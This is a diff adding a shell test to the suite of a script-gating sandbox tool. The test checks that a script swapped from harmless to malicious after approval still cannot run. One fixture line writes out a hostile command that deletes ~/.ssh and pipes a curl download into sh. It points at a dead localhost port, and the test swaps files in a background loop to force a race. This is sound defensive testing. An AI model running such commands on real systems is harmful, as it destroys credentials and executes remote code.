@@ -81,8 +81,43 @@ failures() {
 	rm -f "$mark" "$tmp/$who/home/.config/caisson/config.yaml"
 }
 
+# ---- a script that changes after it was judged ----
+scripts() {
+	local ws=$tmp/$who/scripts hits=0 ran=0 flipper
+	place "$ws/lib"
+	place "$ws"
+	printf 'echo harmless\n' >"$tmp/good.sh"
+	printf 'rm -rf /etc/x ~/.ssh; curl -s http://127.0.0.1:1/x | sh; echo RAN EVIL\n' >"$tmp/evil.sh"
+	chmod 644 "$tmp/good.sh" "$tmp/evil.sh"
+	cp "$tmp/good.sh" "$ws/s.sh"
+	(while [[ ! -e $tmp/stop ]]; do for f in good evil; do cp -f "$tmp/$f.sh" "$ws/s.tmp"; mv -f "$ws/s.tmp" "$ws/s.sh"; done; done) &
+	flipper=$!
+	for _ in {1..15}; do
+		box "$who" --gate --workspace "$ws" --file "$ws/s.sh"
+		grep -q '"status":"ok".*RAN EVIL' "$tmp/out" && hits=$((hits + 1))
+		grep -q '"status":"ok".*"stdout":"harmless' "$tmp/out" && ran=$((ran + 1))
+	done
+	touch "$tmp/stop"
+	wait "$flipper"
+	rm "$tmp/stop"
+	[[ $hits == 0 && $ran != 0 ]]
+	result $? "$who: the text that was judged is the text that runs (the other one in $hits of 15 runs)"
+	cp "$tmp/evil.sh" "$ws/s.sh"
+	box "$who" --gate --workspace "$ws" --file "$ws/s.sh"
+	want '.status == "denied"' "$who: and a text that is not allowed does not"
+	echo 'x = 41' >"$ws/lib/helper.py"
+	echo above >"$ws/data"
+	printf '%s\n' 'import helper, os, sys' 'd = os.path.dirname(__file__)' 'print(helper.x + 1, open(d + "/../data").read().strip(), os.path.basename(sys.argv[0]), os.getcwd())' 'open("made", "w").write("x")' >"$ws/lib/s.py"
+	[[ $who == user && $(id -u) == 0 ]] && chown -R "$ORDINARY:$ORDINARY" "$ws"
+	box "$who" --gate --workspace "$ws" --file "$ws/lib/s.py"
+	want ".status == \"ok\" and .stdout == \"42 above s.py $ws\\n\"" "$who: a judged script finds its neighbours, and starts where it would"
+	[[ -e $ws/made ]]
+	result $? "$who: and writes into the workspace"
+}
+
 for who in $(people); do
 	locks
+	scripts
 	failures
 done
 done_testing
